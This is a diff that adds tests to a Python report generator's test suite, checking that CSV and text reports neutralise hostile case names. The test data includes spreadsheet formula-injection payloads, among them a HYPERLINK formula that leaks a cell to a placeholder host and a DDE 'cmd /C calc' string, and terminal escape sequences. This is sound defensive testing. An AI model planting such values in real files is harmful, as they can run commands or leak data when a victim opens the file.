@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import shutil
+import warnings
 from collections.abc import Sequence
 from dataclasses import replace
 from pathlib import Path
@@ -16,11 +18,11 @@ from rich.console import Console
 from orchestrator import report, results
 from orchestrator.correctness import CorrectnessError, path_of
 from orchestrator.layout import SweepLayout
-from orchestrator.report_csv import csv_by_row
+from orchestrator.report_csv import csv_by_row, csv_by_seed
 from orchestrator.report_html import html
 from orchestrator.report_text import headline, markdown
 from search_spaces.config import OracleConfig
-from tests.unit.sweep_folder import FACTS, Case, records_of, trial_of, write_correct, write_records, write_sweep
+from tests.unit.sweep_folder import FACTS, Case, fail, records_of, trial_of, write_correct, write_records, write_sweep
 
 FULL = Case(names=("full labels only",), initial_labels=100, quotas=())
 ONE = Case(names=("one stage",), quotas=(265,))
@@ -164,6 +166,57 @@ def test_a_search_over_epochs_has_a_leading_row_with_a_word_and_no_best(tmp_path
     found = build(layout)
     assert [(row["is_leader"], row["is_best"], row["like_with_like"]) for row in found["rows"]] == [(False, False, False), (True, False, True)]
     assert "No row is called best: the rows are not like with like, they differ in method.epochs" in headline(found)
+
+
+# --- hostile names
+
+
+HOSTILE = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+    "-20 labels",
+    "+1 round",
+    "@home",
+    "\t=1+1",
+    " =1+1",
+    "＝1+1",
+    "a\r=1",
+    "\x1b]0;title\x07\x1b[31mred \x9b31m",
+)
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> SweepLayout:
+    cases = [replace(TWO, names=(name,), quotas=(100 + place, 165 - place)) for place, name in enumerate(HOSTILE)]
+    layout = write_sweep(tmp_path, [*cases, replace(TWO, names=("-20",), quotas=(50, 215))], name="\x1b[2Jsweep")
+    shutil.rmtree(layout.trial(trial_of(cases[0], 1).id).stages)
+    fail(layout, trial_of(cases[0], 1), message="=cmd|' /C calc'!A0 \x1b[31m \x9b1m")
+    return layout
+
+
+def test_no_cell_of_a_csv_file_is_a_formula(hostile: SweepLayout) -> None:
+    paths = report.write(hostile)
+    for path in (paths.csv, paths.csv_rows):
+        cells = [cell for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in line]
+        for cell in cells:
+            if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")):
+                float(cell)
+    named = {line["case"] for line in csv.DictReader(io.StringIO(paths.csv_rows.read_text(encoding="utf-8")))}
+    assert {"'-20 labels", "'@home", "-20"} <= named
+
+
+def test_no_form_holds_an_escape_for_a_terminal(hostile: SweepLayout) -> None:
+    with warnings.catch_warnings():
+        # A letter that the plots' measuring font lacks is no news: the page has fonts of its own.
+        warnings.simplefilter("error")
+        paths = report.write(hostile)
+    found = build(hostile)
+    texts = [getattr(paths, name).read_text(encoding="utf-8") for name in paths.__dataclass_fields__] + [csv_by_seed(found), csv_by_row(found)]
+    out = io.StringIO()
+    Console(width=120, file=out, no_color=True).print(report.render(found))
+    for text in [*texts, out.getvalue()]:
+        assert not [char for char in text if not char.isprintable() and char != "\n"]
+        # Markdown has a backslash before each bracket.
+        assert "x1b]0;title" in text.replace("\\", "")
 
 
 def test_a_report_that_was_built_is_written_as_it_is(tmp_path: Path) -> None:
